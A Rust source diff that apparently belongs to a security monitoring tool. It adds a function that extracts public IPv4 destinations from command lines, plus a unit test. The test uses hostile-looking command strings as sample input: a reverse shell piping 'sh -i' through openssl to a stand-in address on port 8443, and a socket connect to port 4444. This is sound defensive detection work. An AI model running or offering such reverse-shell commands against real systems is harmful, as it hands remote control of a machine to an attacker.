@@ -107,7 +107,33 @@ fn entities(event: &Event<'_>, host: &str) -> BTreeSet<Entity> {
     if let Some(kind) = object {
         add(kind, core.object, "object");
     }
+    for address in outside(core.command) {
+        add(EntityKind::Address, address, "to");
+    }
     all
+}
+
+/// Addresses on the Internet that a command names: it goes there.
+fn outside(command: &str) -> impl Iterator<Item = &str> {
+    let words = command.split(|c: char| !c.is_ascii_digit() && c != '.').map(|word| word.trim_matches('.'));
+    words.filter(|word| word.len() >= 7).filter(|word| {
+        word.parse::<std::net::Ipv4Addr>().is_ok_and(|four| {
+            let [first, second, ..] = four.octets();
+            let shared = first == 100 && (64..128).contains(&second);
+            !(four.is_private() || four.is_loopback() || four.is_link_local() || first == 0 || first >= 224 || shared)
+        })
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn a_command_names_where_it_goes() {
+        let named = |text| super::outside(text).collect::<Vec<_>>();
+        assert_eq!(named("sh -i | openssl s_client -connect 203.0.113.50:8443 >/tmp/p"), ["203.0.113.50"]);
+        assert_eq!(named("connect((\"198.51.100.9\",4444)) from 10.0.0.1"), ["198.51.100.9"]);
+        assert_eq!(named("setup.exe /v 6.1.7601.17514 127.0.0.1"), Vec::<&str>::new());
+    }
 }
 
 impl Sheet<'_> {
